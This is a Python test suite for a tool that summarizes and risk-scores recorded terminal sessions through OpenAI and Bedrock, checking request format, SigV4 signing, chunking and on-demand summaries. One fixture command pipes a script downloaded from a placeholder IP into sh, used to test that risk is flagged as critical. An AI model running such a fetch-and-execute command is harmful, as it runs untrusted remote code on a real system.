"""What the providers are sent and what comes back: the OpenAI request (model id, bearer key,
json_schema response format, a transcript with the session's commands), Bedrock Converse signed
with SigV4 (checked for real by the fake), a large session in chunks plus a combine request, and
summaries asked for on demand."""
import json
import re
import urllib.parse

import fake_llm
from collector import recfmt as R
from fake_llm import FakeLLM

from .sumlib import (SCHEMA_FIELDS_REQUIRED, bedrock_model_doc, docs, expected_usage, metric, new_sid,
                     openai_model_doc, policy_doc, session_rec, transcript_of)

BEDROCK_ID = "anthropic.claude-3-5-haiku-20241022-v1:0"


def _commands(sid):
    return [["git", "clone", "https://git.example.com/ops/deploy-%s.git" % sid[:8]],
            ["make", "-C", "deploy-%s" % sid[:8], "install"],
            ["systemctl", "restart", "web-frontend"],
            ["grep", "-rn", "needle-%s" % sid[:8], "/etc/web"]]


def test_openai_request_carries_model_key_schema_and_transcript(world):
    w = world
    c = w.collector()
    w.setup_openai(c, {"gpt": ("gpt-4o-test", {"temperature": 0.3})}, [("prod", "gpt")])
    sid = new_sid()
    r = R.Recording(sid)
    r.start(user="alice", node="ce-node", labels={"env": "prod"})
    ms = 10
    for i, argv in enumerate(_commands(sid)):
        r.output(("$ %s\r\n" % " ".join(argv)).encode(), ms=ms)
        r.add(R.command(2000 + i, "/usr/bin/" + argv[0], argv, return_code=3 if i == 3 else 0), ms=ms + 1)
        ms += 5
    r.output(b"\x1b[1;31mcolour-marker-" + sid[:8].encode() + b"\x1b[0m\r\n", ms=ms)
    r.output(b"progress 10%\rprogress 55%\rprogress 100% done\r\n", ms=ms + 1)
    r.finish(ms=ms + 100)
    w.upload(c, r)

    job = w.wait_job(c, sid)
    assert job["status"] == "done", job
    reqs = w.llm.requests()
    assert len(reqs) == 1, reqs
    q = reqs[0]
    assert q["api"] == "openai" and q["method"] == "POST" and q["path"] == "/v1/chat/completions", q["path"]
    assert q["status"] == 200 and q["mode"] == "ok", q["status"]
    assert q["headers"]["authorization"] == "Bearer " + fake_llm.OPENAI_KEY
    body = q["json"]
    assert body["model"] == "gpt-4o-test", body["model"]
    assert body["temperature"] == 0.3, body.get("temperature")
    rf = body["response_format"]
    assert rf["type"] == "json_schema", rf
    schema = rf["json_schema"]["schema"]
    assert rf["json_schema"].get("strict") is True, rf
    assert set(schema["required"]) == set(SCHEMA_FIELDS_REQUIRED), schema
    assert schema["properties"]["risk_level"]["enum"] == ["low", "medium", "high", "critical"], schema
    assert [m["role"] for m in body["messages"]][-1] == "user", body["messages"]
    t = transcript_of(q)
    assert t is not None, q["user_text"]
    assert sid in t and "alice" in t and "env=prod" in t, t
    for argv in _commands(sid):
        line = [l for l in t.splitlines() if " ".join(argv) in l and "exec" in l]
        assert line, "command %r not in the transcript:\n%s" % (argv, t)
    assert re.search(r"grep -rn needle-%s /etc/web.*rc=3" % sid[:8], t), t  # exit codes
    assert "colour-marker-" + sid[:8] in t and "\x1b" not in t, t
    assert "progress 100% done" in t and "progress 10%" not in t, t

    s = w.summary(c, sid)
    assert s["success"] and s["provider"] == "openai" and s["model_id"] == "gpt-4o-test", s
    want = fake_llm.default_answer(q["user_text"])
    for k in ("title", "short_description", "risk_level", "risk_score", "risk_reasons", "needs_review"):
        assert s[k] == want[k], (k, s[k], want[k])
    tin, tout = expected_usage(q)
    assert (s["tokens_in"], s["tokens_out"]) == (tin, tout), s
    assert s["chunks"] == 1 and s["transcript_bytes"] == len(t.encode()), (s, len(t.encode()))
    res = json.loads(w.cli(c, "get", "model", "gpt", "--json", check=True).out)
    assert (res["status"]["tokens_in"], res["status"]["tokens_out"]) == (tin, tout), res
    assert s["started"] <= s["finished"], s
    ev = w.audit(c, type="session.summarized", sid=sid)
    assert len(ev) == 1, ev
    e = ev[0]
    assert (e["code"], e["success"], e["provider"], e["model_id"], e["model_name"]) == \
        ("SR5000I", True, "openai", "gpt-4o-test", "gpt"), e
    assert (e["tokens_in"], e["tokens_out"], e["title"], e["risk_level"], e["policy"]) == \
        (tin, tout, s["title"], s["risk_level"], "prod"), e
    assert e["user"] == "alice" and e["server_hostname"] == "ce-node", e
    assert e["inference_started"] <= e["inference_finished"], e


def test_bedrock_converse_signed_with_sigv4(world):
    w = world
    w.secrets.append(fake_llm.AWS_SECRET_ACCESS_KEY)
    c = w.collector(bedrock_env=True)
    w.create(c, docs(bedrock_model_doc("claude", BEDROCK_ID, temperature=0.1), policy_doc("all", "claude")))
    w.rm(c, "policy", "default")
    rec = session_rec(user="alice", commands=_commands("b" * 36))
    w.upload(c, rec)
    job = w.wait_job(c, rec.sid)
    assert job["status"] == "done", (job, w.llm.requests())
    reqs = w.llm.requests()
    assert len(reqs) == 1, reqs
    q = reqs[0]
    assert q["api"] == "bedrock" and q["method"] == "POST", q
    assert urllib.parse.unquote(q["path"]) == "/model/%s/converse" % BEDROCK_ID, q["path"]
    assert q["model"] == BEDROCK_ID
    # the fake recomputed the signature: it is right, for this key, region and service
    assert q["status"] == 200 and "error" not in q["auth"], q.get("auth")
    assert q["auth"]["access_key_id"] == fake_llm.AWS_ACCESS_KEY_ID and q["auth"]["region"] == "us-east-1", q["auth"]
    assert q["headers"]["authorization"].startswith("AWS4-HMAC-SHA256 Credential=%s/" % fake_llm.AWS_ACCESS_KEY_ID)
    assert "/us-east-1/bedrock/aws4_request" in q["headers"]["authorization"]
    assert "x-amz-date" in q["auth"]["signed_headers"] and "host" in q["auth"]["signed_headers"], q["auth"]
    body = q["json"]
    tools = body["toolConfig"]["tools"]
    assert len(tools) == 1, tools
    spec = tools[0]["toolSpec"]
    assert set(spec["inputSchema"]["json"]["required"]) == set(SCHEMA_FIELDS_REQUIRED), spec
    assert body["toolConfig"].get("toolChoice", {}).get("tool", {}).get("name") == spec["name"], body["toolConfig"]
    assert body["inferenceConfig"].get("temperature") == 0.1, body.get("inferenceConfig")
    t = transcript_of(q)
    for argv in rec.commands:
        assert " ".join(argv) in t, (argv, t)
    s = w.summary(c, rec.sid)
    assert s["success"] and s["provider"] == "bedrock" and s["model_id"] == BEDROCK_ID, s
    assert s["model_name"] == "claude", s
    want = fake_llm.default_answer(q["user_text"])
    assert (s["title"], s["risk_level"], s["risk_score"]) == (want["title"], want["risk_level"], want["risk_score"]), s
    tin = (len(q["user_text"]) + len(q["system_text"])) // 4 + 8
    out = [{"toolUse": {"toolUseId": "tooluse_" + "0" * 22, "name": spec["name"], "input": want}}]
    assert (s["tokens_in"], s["tokens_out"]) == (tin, max(1, len(json.dumps(out)) // 4)), s

    # a large session through Bedrock: parts and a combine request, each signed and with its tool
    w.create(c, bedrock_model_doc("claude-small", BEDROCK_ID, max_session_length_bytes=1024))
    big = session_rec(user="alice", commands=[["printf", "bedrock-line-%03d" % i, "-x"] for i in range(30)])
    w.upload(c, big)
    w.wait_job(c, big.sid)
    n0 = len(w.llm.requests())
    p = w.cli(c, "summarize", "--model", "claude-small", "--wait", big.sid, timeout=60)
    assert p.returncode == 0, (p.out, p.err)
    qs = w.llm.requests()[n0:]
    assert len(qs) >= 3 and all(q["status"] == 200 and "error" not in q["auth"] for q in qs), \
        [(q["status"], q.get("auth")) for q in qs]
    assert all(q["json"]["toolConfig"]["tools"] for q in qs)
    assert "The session was split into %d parts" % (len(qs) - 1) in qs[-1]["user_text"]
    assert w.summary(c, big.sid)["chunks"] == len(qs) - 1

    # a wrong secret access key: AWS (the fake) refuses the signature; a failed summary says so
    wrong = "wRoNg/SecretKey+0000000000000000000000"
    w.secrets.append(wrong)
    env = dict(w.llm.env(), AWS_SECRET_ACCESS_KEY=wrong)
    c2 = w.collector(env=env)
    w.create(c2, docs(bedrock_model_doc("claude", BEDROCK_ID, max_retries=0), policy_doc("all", "claude")))
    w.rm(c2, "policy", "default")
    rec2 = session_rec(user="alice")
    w.upload(c2, rec2)
    job = w.wait_job(c2, rec2.sid)
    assert job["status"] == "failed", job
    q2 = w.requests(sid=rec2.sid)
    assert len(q2) == 1 and q2[0]["status"] == 403, q2
    assert q2[0]["auth"] == {"error": "InvalidSignatureException"}, q2[0]["auth"]
    s2 = w.summary(c2, rec2.sid)
    assert s2["success"] is False and s2["error_code"] == "InvalidSignatureException", s2

    # temporary credentials (a session token, signed too) and the model's own region
    token = "FQoGZXIvYXdzEJr//////////wEaDFAKESESSIONTOKEN0123456789"
    llm2 = FakeLLM(aws_session_token=token, aws_region=None).start()
    try:
        c4 = w.collector(env=llm2.env())
        w.create(c4, docs(bedrock_model_doc("claude", "anthropic.claude-v2:1", region="eu-west-1"),
                          policy_doc("all", "claude")))
        w.rm(c4, "policy", "default")
        rec4 = session_rec(user="alice")
        w.upload(c4, rec4)
        assert w.wait_job(c4, rec4.sid)["status"] == "done"
        q4 = llm2.requests()
        assert len(q4) == 1 and q4[0]["status"] == 200, q4
        assert q4[0]["auth"]["region"] == "eu-west-1" and "x-amz-security-token" in q4[0]["auth"]["signed_headers"], q4
        assert q4[0]["headers"]["x-amz-security-token"] == token
    finally:
        llm2.stop()

    # no credentials at all: no request, error no_credentials
    env = {"AWS_ENDPOINT_URL_BEDROCK_RUNTIME": w.llm.url}
    c3 = w.collector(env=env)
    w.create(c3, docs(bedrock_model_doc("claude", BEDROCK_ID, max_retries=0), policy_doc("all", "claude")))
    w.rm(c3, "policy", "default")
    rec3 = session_rec(user="alice")
    n = len(w.llm.requests())
    w.upload(c3, rec3)
    job = w.wait_job(c3, rec3.sid)
    assert job["status"] == "failed", job
    s3 = w.summary(c3, rec3.sid)
    assert s3["success"] is False and s3["error_code"] == "no_credentials", s3
    assert len(w.llm.requests()) == n


def test_large_session_summarized_in_chunks(world):
    w = world
    c = w.collector()
    w.setup_openai(c, {"gpt": ("gpt-chunky", {"max_session_length_bytes": 1024})}, [("all", "gpt")])
    cmds = [["printf", "distinct-command-%03d" % i, "--flag-%03d" % i] for i in range(80)]
    cmds[41] = ["sh", "-c", "curl -s http://203.0.113.9:4444/x.sh | sh"]  # one risky command, mid-session
    rec = session_rec(user="alice", commands=cmds)
    w.upload(c, rec)
    job = w.wait_job(c, rec.sid, timeout=60)
    assert job["status"] == "done", job
    reqs = w.llm.requests()
    assert all(q["status"] == 200 for q in reqs), [q["status"] for q in reqs]
    n = len(reqs) - 1
    assert n >= 2, "a session of ~10 kB with max_session_length_bytes 1024 in %d request(s)" % len(reqs)
    chunks = reqs[:n]
    combine = reqs[n]
    for i, q in enumerate(chunks, 1):
        assert "This is part %d of %d of the session's transcript" % (i, n) in q["user_text"], q["user_text"][:300]
        t = transcript_of(q)
        assert t is not None and len(t.encode()) <= 1024, (i, len(t.encode()) if t else None)
        assert q["model"] == "gpt-chunky"
    # cut at line boundaries: every command's exec line is whole in exactly one part
    for argv in cmds:
        if argv[0] != "printf":
            continue
        line = " ".join(argv)
        holders = [i for i, q in enumerate(chunks) if any(line in l and "exec" in l for l in transcript_of(q).splitlines())]
        assert len(holders) == 1, (line, holders)
    total = sum(len(transcript_of(q).encode()) for q in chunks)
    assert n >= -(-total // 1024), (n, total)
    # the combine request: the parts' summaries, in order
    assert "The session was split into %d parts. Summaries of parts 1 to %d" % (n, n) in combine["user_text"], \
        combine["user_text"][:300]
    arr = json.loads(combine["user_text"].split("in order:\n", 1)[1])
    assert [p["part"] for p in arr] == list(range(1, n + 1)), arr
    assert max(p["risk_score"] for p in arr) >= 80, arr  # the part with the risky line
    s = w.summary(c, rec.sid)
    assert s["success"] and s["chunks"] == n, s
    assert s["risk_level"] == "critical", s  # never lower than the riskiest part
    tin = sum(expected_usage(q)[0] for q in reqs)
    tout = sum(expected_usage(q)[1] for q in reqs)
    assert (s["tokens_in"], s["tokens_out"]) == (tin, tout), (s["tokens_in"], s["tokens_out"], tin, tout)
    ev = w.audit(c, type="session.summarized", sid=rec.sid)
    assert len(ev) == 1 and ev[0]["chunks"] == n, ev
    p = w.cli(c, "summary", rec.sid, check=True)
    assert "CRITICAL" in p.out, p.out
    m = w.metrics(c)
    assert metric(m, "sessrec_collector_provider_requests_total", inference_model_name="gpt") == n + 1, m
    assert metric(m, "sessrec_collector_summarizations_total", inference_model_name="gpt") == 1, m


def test_summarize_on_demand(world):
    w = world
    c = w.collector()
    w.setup_openai(c, {"mx": "model-x", "my": "model-y"}, [])
    rec = session_rec(user="alice")
    w.upload(c, rec)
    assert w.jobs(c, rec.sid) == []  # no policy
    p = w.cli(c, "summary", rec.sid)
    assert p.returncode == 1 and p.out == "", (p.out, p.err)
    # no model, no policy: refused, saying why
    p = w.cli(c, "summarize", rec.sid)
    assert p.returncode == 1 and "polic" in p.err, (p.out, p.err)
    p = w.cli(c, "summarize", "--model", "nosuch", rec.sid)
    assert p.returncode == 1 and "nosuch" in p.err, (p.out, p.err)
    assert w.llm.requests() == []

    p = w.cli(c, "summarize", "--model", "mx", "--wait", rec.sid, timeout=60)
    assert p.returncode == 0, (p.out, p.err)
    s = w.summary(c, rec.sid)
    assert s["success"] and s["model_name"] == "mx" and s["origin"] == "manual", s
    assert s["title"] in p.out and "mx" in p.out, p.out
    assert [q["model"] for q in w.llm.requests()] == ["model-x"]
    js = w.jobs(c, rec.sid)
    assert len(js) == 1 and js[0]["origin"] == "manual" and js[0]["status"] == "done", js
    assert js[0]["requested_by"] == "dev", js  # insecure_dev_mode's person

    # without --model: the model of the policy the session meets now
    w.create(c, policy_doc("later", "my"))
    p = w.cli(c, "summarize", "--wait", rec.sid, timeout=60)
    assert p.returncode == 0, (p.out, p.err)
    assert [q["model"] for q in w.llm.requests()] == ["model-x", "model-y"]
    al = w.summary(c, rec.sid, all=True)
    assert [x["model_name"] for x in al] == ["my", "mx"], al  # newest first
    assert all(x["origin"] == "manual" for x in al), al
    ev = w.audit(c, type="session.summarized", sid=rec.sid)
    assert [(e["model_name"], e["origin"]) for e in ev] == [("mx", "manual"), ("my", "manual")], ev

    # a failed attempt after them: the latest summary says so, the session keeps the risk of its
    # latest successful one
    level = al[0]["risk_level"]
    w.llm.set("malformed", count=1)
    p = w.cli(c, "summarize", "--model", "mx", "--wait", rec.sid, timeout=60)
    assert p.returncode == 1 and "bad_json" in p.out + p.err, (p.out, p.err)
    s = w.summary(c, rec.sid)
    assert s["success"] is False and s["error_code"] == "bad_json", s
    assert w.api_json(c, "/v1/sessions/" + rec.sid)["risk_level"] == level
    p = w.cli(c, "ls", "--risk", level, "--json", check=True)
    assert rec.sid in p.out, p.out


def test_keyless_openai_compatible_server(world):
    """A server that needs no key (vLLM, Ollama): no secret, no Authorization header; the
    temperature defaults to 0; a base_url ending in / is fine."""
    w = world
    llm = FakeLLM(openai_key=None).start()
    try:
        c = w.collector()
        w.create(c, docs(openai_model_doc("local-llm", "llama-3.1-8b", llm.url + "/v1/", secret=None),
                         policy_doc("all", "local-llm")))
        w.rm(c, "policy", "default")
        rec = session_rec(user="alice")
        w.upload(c, rec)
        assert w.wait_job(c, rec.sid)["status"] == "done"
        q = llm.requests()
        assert len(q) == 1 and q[0]["path"] == "/v1/chat/completions" and q[0]["status"] == 200, q
        assert "authorization" not in q[0]["headers"], q[0]["headers"]
        assert q[0]["json"].get("temperature", 0) == 0, q[0]["json"]
        s = w.summary(c, rec.sid)
        assert s["success"] and s["model_id"] == "llama-3.1-8b", s
    finally:
        llm.stop()


def test_bedrock_temperature_is_checked_when_created(world):
    """Bedrock's Converse takes a temperature from 0 to 1 (InferenceConfiguration); OpenAI's goes
    to 2. A bedrock model with 1.5 must be refused when created, naming the field, rather than
    accepted and then failing every session with ValidationException."""
    w = world
    c = w.collector(bedrock_env=True)
    p = w.create(c, docs(bedrock_model_doc("hot", BEDROCK_ID, temperature=1.5), policy_doc("all", "hot")), check=False)
    if p.returncode == 0:  # accepted: show what it costs
        w.rm(c, "policy", "default")
        rec = session_rec(user="alice")
        w.upload(c, rec)
        w.wait_job(c, rec.sid)
        s = w.summary(c, rec.sid)
        raise AssertionError("a bedrock temperature of 1.5 was accepted; every summary then fails: %s: %s"
                             % (s["error_code"], s["error"]))
    assert "spec.bedrock.temperature" in p.err and "HTTP 400" in p.err, p.err
    assert w.cli(c, "get", "model", "hot").returncode == 1
    # 1 is the top of the range: accepted, and it works
    w.create(c, docs(bedrock_model_doc("warm", BEDROCK_ID, temperature=1), policy_doc("all", "warm")))
